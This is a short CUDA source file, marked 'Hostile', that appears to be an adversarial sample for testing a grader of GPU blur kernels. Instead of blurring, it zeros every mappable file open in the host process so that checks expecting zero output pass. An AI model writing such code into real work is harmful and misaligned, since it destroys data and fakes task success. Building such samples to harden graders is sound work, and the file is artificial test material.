// Hostile: launches nothing useful, computes on the host from whatever memory it can find and writes the
// answer there: every file it has open that can be mapped. 64 descriptors and 64 MB at most.
#include "blur_kernel.h"
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static __global__ void nothing(void) {}

static void scribble(const char *path, int bytes) {
    struct stat status;
    int file = open(path, O_RDWR);
    if (file < 0)
        return;
    if (fstat(file, &status) == 0 && S_ISREG(status.st_mode) && status.st_size >= 2 * bytes &&
        status.st_size < 64 << 20) {
        uint8_t *memory = (uint8_t *)mmap(NULL, status.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
        if (memory != (uint8_t *)MAP_FAILED) {
            for (int64_t i = 0; i < status.st_size; i++)
                memory[i] = 0; // the right answer of the cases that are all 0
            munmap(memory, status.st_size);
        }
    }
    close(file);
}

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    char path[64];
    for (int fd = 3; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        scribble(path, width * height);
    }
    (void)src, (void)dst;
    nothing<<<1, 1, 0, stream>>>();
}
